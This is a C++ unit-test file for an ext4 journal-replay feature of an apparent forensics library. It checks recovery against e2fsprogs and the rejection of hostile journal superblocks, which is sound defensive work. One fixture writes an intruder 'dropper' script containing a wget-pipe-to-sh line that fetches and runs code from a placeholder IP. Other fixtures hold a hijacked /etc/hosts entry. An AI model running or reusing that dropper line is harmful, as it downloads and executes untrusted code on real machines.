// The ext4 journal replay (forensics/ext4_journal.h): a filesystem left
// needing recovery is read as e2fsprogs' own recovery (debugfs journal_run)
// leaves it, for both journal formats; a file whose inode, directory entry
// and data are only in the journal is there; an uncommitted transaction is
// not replayed, a revoked copy is not, an escaped block gets its magic back;
// a hostile journal superblock gives no replay and a reason.
#include "oyster/forensics/ext4_journal.h"

#include <gtest/gtest.h>

#include <fstream>
#include <map>

#include <fmt/format.h>

#include "cow_disk_builder.h"
#include "oyster/common/process.h"
#include "oyster/common/sha256.h"
#include "oyster/forensics/ext_fs.h"
#include "temp_dir.h"

namespace oyster::forensics {
namespace {

using testing_support::read_all;
constexpr std::size_t kBlock = 1024;

void write_file(const std::filesystem::path& p, const std::string& data) {
    std::filesystem::create_directories(p.parent_path());
    std::ofstream(p, std::ios::binary) << data;
}

class Ext4JournalTest : public testing::TempDirTest {
protected:
    // A 16 MiB ext4 of 1 KiB blocks holding /etc/hosts and /root.
    std::filesystem::path make_fs(const std::string& name) {
        auto root = dir / (name + "-root");
        write_file(root / "etc/hosts", "127.0.0.1 localhost\n");
        std::filesystem::create_directories(root / "root");
        auto img = dir / (name + ".img");
        run({"mke2fs", "-q", "-F", "-t", "ext4", "-b", "1024", "-d", root.string(), img.string(), "16M"});
        return img;
    }
    void run(const std::vector<std::string>& argv) {
        auto r = run_capture(argv, {}, ChildStderr::discard);
        ASSERT_EQ(r.exit_code, 0) << argv[0] << ": " << r.stdout_text;
    }
    // debugfs commands on `img`, written (-w).
    void debugfs(const std::filesystem::path& img, const std::string& commands) {
        write_file(dir / "commands", commands);
        run({"debugfs", "-w", "-f", (dir / "commands").string(), img.string()});
    }
    std::uint64_t block_of(const std::filesystem::path& img, const std::string& path) {
        auto r = run_capture({"debugfs", "-R", "bmap " + path + " 0", img.string()}, {}, ChildStderr::discard);
        return std::stoull(r.stdout_text);
    }
    std::string block_file(const std::string& name, const std::string& text) {
        std::string b = text + std::string(kBlock - text.size(), '\0');
        write_file(dir / name, b);
        return (dir / name).string();
    }
    // Every path with its mode, size and (regular files) content hash.
    std::map<std::string, std::string> snapshot(const std::filesystem::path& img, const ExtFs** keep = nullptr) {
        DiskView disk(img);
        ExtFs fs(disk, Partition{0, disk.size()});
        if (keep != nullptr) *keep = nullptr;
        std::map<std::string, std::string> out;
        for (const auto& e : fs.walk()) {
            std::string content;
            if ((e.mode & 0170000) == 0100000) {
                fs.read(e.ino, 1U << 20, [&](const std::uint8_t* p, std::size_t n) {
                    content.append(reinterpret_cast<const char*>(p), n);
                });
            }
            out[e.path] = fmt::format("{:o} {} {}", e.mode, e.size, sha256_text(content));
        }
        return out;
    }
    std::string cat(const std::filesystem::path& img, const std::string& path) {
        DiskView disk(img);
        ExtFs fs(disk, Partition{0, disk.size()});
        auto e = fs.lookup(path);
        if (!e) return "(none)";
        std::string content;
        fs.read(e->ino, 1U << 20,
                [&](const std::uint8_t* p, std::size_t n) { content.append(reinterpret_cast<const char*>(p), n); });
        return content;
    }
    // A copy of `img` recovered by e2fsprogs itself.
    std::filesystem::path recovered_by_e2fsprogs(const std::filesystem::path& img) {
        auto copy = img;
        copy += ".recovered";
        std::filesystem::copy_file(img, copy, std::filesystem::copy_options::overwrite_existing);
        debugfs(copy, "jr\n");
        return copy;
    }
};

TEST_F(Ext4JournalTest, ReplaysAsE2fsprogsDoesInBothFormats) {
    struct Case {
        std::string transactions;  // debugfs journal_write lines; {0} the block, {1} {2} {3} the contents
        std::string hosts;         // /etc/hosts's start after the replay
        std::uint64_t committed, revoked, replayed;
    };
    const std::vector<Case> cases = {
        // 1: a copy; 2: revoked; 3: a copy starting with the journal's magic
        // (logged escaped); 4: never committed.
        {"jw -b {0} {1}\njw -r {0}\njw -b {0} {2}\njw -b {0} -c {3}\n", "\xC0\x3B\x39\x98 escaped\n", 3, 0, 1},
        // The newest copy revoked: the home block stands.
        {"jw -b {0} {1}\njw -r {0}\n", "127.0.0.1 localhost\n", 2, 1, 0},
    };
    for (std::string open : {"jo", "jo -c"}) {  // plain; with checksums (v3), as a metadata_csum kernel writes
        for (const auto& c : cases) {
            SCOPED_TRACE(open + ": " + c.transactions);
            auto img = make_fs("fs");
            auto hosts = block_of(img, "/etc/hosts");
            auto evil = block_file("evil", "6.6.6.6 localhost\n");
            auto escaped = block_file("escaped", "\xC0\x3B\x39\x98 escaped\n");
            auto later = block_file("later", "uncommitted\n");
            debugfs(img, open + "\n" + fmt::format(fmt::runtime(c.transactions), hosts, evil, escaped, later) + "jc\n");
            auto expected = recovered_by_e2fsprogs(img);
            EXPECT_EQ(snapshot(img), snapshot(expected));
            EXPECT_EQ(cat(img, "/etc/hosts").substr(0, c.hosts.size()), c.hosts);

            DiskView disk(img);
            ExtFs fs(disk, Partition{0, disk.size()});
            ASSERT_NE(fs.journal(), nullptr);
            EXPECT_EQ(fs.journal()->transactions, c.committed);
            EXPECT_EQ(fs.journal()->revoked, c.revoked);
            EXPECT_EQ(fs.journal()->blocks.size(), c.replayed);
            // A replayed file was written by the guest, though not at its home block.
            EXPECT_EQ(fs.touched(fs.lookup("/etc/hosts")->ino), c.replayed > 0);
            std::filesystem::remove_all(dir);
            std::filesystem::create_directories(dir);
        }
    }
}

// jbd2 sets the revoke feature in the journal's superblock when it first
// revokes, in memory; a guest killed before that superblock reached the
// disk leaves revoke blocks a superblock without the feature. The kernel's
// recovery reads them regardless (fs/jbd2/recovery.c), and so must we.
TEST_F(Ext4JournalTest, RevokesCountBeforeTheSuperblockSaysSo) {
    auto img = make_fs("fs");
    auto hosts = block_of(img, "/etc/hosts");
    auto evil = block_file("evil", "6.6.6.6 localhost\n");
    debugfs(img, fmt::format("jo\njw -b {0} {1}\njw -r {0}\njc\n", hosts, evil));
    auto journal_block = block_of(img, "<8>");
    {
        // s_feature_incompat, big-endian at byte 40: clear the revoke bit.
        std::fstream f(img, std::ios::in | std::ios::out | std::ios::binary);
        auto at = static_cast<std::streamoff>(journal_block * kBlock + 43);
        f.seekg(at);
        char incompat = 0;
        f.read(&incompat, 1);
        ASSERT_TRUE(incompat & 0x1) << "debugfs wrote no revoke feature to clear";
        incompat = static_cast<char>(incompat & ~0x1);
        f.seekp(at);
        f.write(&incompat, 1);
    }
    auto expected = recovered_by_e2fsprogs(img);
    EXPECT_EQ(snapshot(img), snapshot(expected));
    EXPECT_EQ(cat(img, "/etc/hosts"), "127.0.0.1 localhost\n");
    DiskView disk(img);
    ExtFs fs(disk, Partition{0, disk.size()});
    ASSERT_NE(fs.journal(), nullptr);
    EXPECT_EQ(fs.journal()->revoked, 1U);
    EXPECT_EQ(fs.journal()->end.find("unknown type"), std::string::npos) << fs.journal()->end;
}

// The intruder's file, its inode, its directory entry and the bitmaps all
// in the journal (a guest killed before writeback): it is listed, as after
// the kernel's recovery.
TEST_F(Ext4JournalTest, AFileOnlyInTheJournalIsThere) {
    auto before = make_fs("fs");
    auto after = dir / "after.img";
    std::filesystem::copy_file(before, after);
    write_file(dir / "dropper", "#!/bin/sh\nwget -qO- http://198.51.100.80/x | sh\n");
    debugfs(after, fmt::format("write {} /root/dropper\n", (dir / "dropper").string()));
    std::string a = read_all(before), b = read_all(after);
    ASSERT_EQ(a.size(), b.size());
    std::string blocks, data;
    for (std::size_t at = 0; at < a.size(); at += kBlock) {
        if (a.compare(at, kBlock, b, at, kBlock) == 0) continue;
        blocks += fmt::format("{}{}", blocks.empty() ? "" : ",", at / kBlock);
        data += b.substr(at, kBlock);
    }
    ASSERT_FALSE(blocks.empty());
    write_file(dir / "changed", data);
    debugfs(before, fmt::format("jo -c\njw -b {} {}\njc\n", blocks, (dir / "changed").string()));

    auto with_journal = snapshot(before), expected = snapshot(after);
    EXPECT_TRUE(with_journal.contains("/root/dropper"));
    EXPECT_EQ(with_journal, expected);
    EXPECT_EQ(cat(before, "/root/dropper"), read_all(dir / "dropper"));
}

TEST_F(Ext4JournalTest, ACleanJournalIsNotRead) {
    auto img = make_fs("fs");
    DiskView disk(img);
    ExtFs fs(disk, Partition{0, disk.size()});
    EXPECT_EQ(fs.journal(), nullptr);
}

// The journal's own claims, checked: a start outside the log, a block size
// that is not the filesystem's, a length longer than the journal inode.
TEST(Ext4JournalScan, AHostileSuperblockGivesNoReplayAndAReason) {
    std::vector<std::uint8_t> journal(8 * kBlock, 0);
    auto put = [&](std::size_t at, std::uint32_t v) {
        for (int i = 0; i < 4; ++i) journal[at + i] = static_cast<std::uint8_t>(v >> (24 - 8 * i));
    };
    put(0, 0xC03B3998);
    put(4, 4);        // superblock v2
    put(12, kBlock);  // block size
    put(16, 8);       // blocks
    put(20, 1);       // first log block
    put(24, 1);       // sequence
    put(28, 9);       // start: past the end
    std::vector<std::uint64_t> map = {100, 101, 102, 103, 104, 105, 106, 107};
    auto read = [&](std::uint64_t block, std::span<std::uint8_t> out) {
        std::memcpy(out.data(), journal.data() + (block - 100) * kBlock, out.size());
    };
    auto o = scan_journal(read, map, kBlock, 1000);
    EXPECT_TRUE(o.empty());
    EXPECT_EQ(o.end, "the journal's start is outside its log");
    put(28, 1);
    put(16, 9);  // longer than the inode
    o = scan_journal(read, map, kBlock, 1000);
    EXPECT_EQ(o.end, "the journal superblock does not match its inode");
    put(16, 8);
    put(12, 4096);
    o = scan_journal(read, map, kBlock, 1000);
    EXPECT_EQ(o.end, "the journal superblock does not match its inode");
    put(12, kBlock);
    // A descriptor naming a block outside the filesystem, committed.
    put(kBlock, 0xC03B3998), put(kBlock + 4, 1), put(kBlock + 8, 1);
    put(kBlock + 12, 5000), put(kBlock + 16, 8 | 2);  // block 5000, last tag, same uuid (v2 tag: flags at +6)
    put(3 * kBlock, 0xC03B3998), put(3 * kBlock + 4, 2), put(3 * kBlock + 8, 1);
    o = scan_journal(read, map, kBlock, 1000);
    EXPECT_TRUE(o.empty());
    EXPECT_EQ(o.transactions, 1U);
}

}  // namespace
}  // namespace oyster::forensics
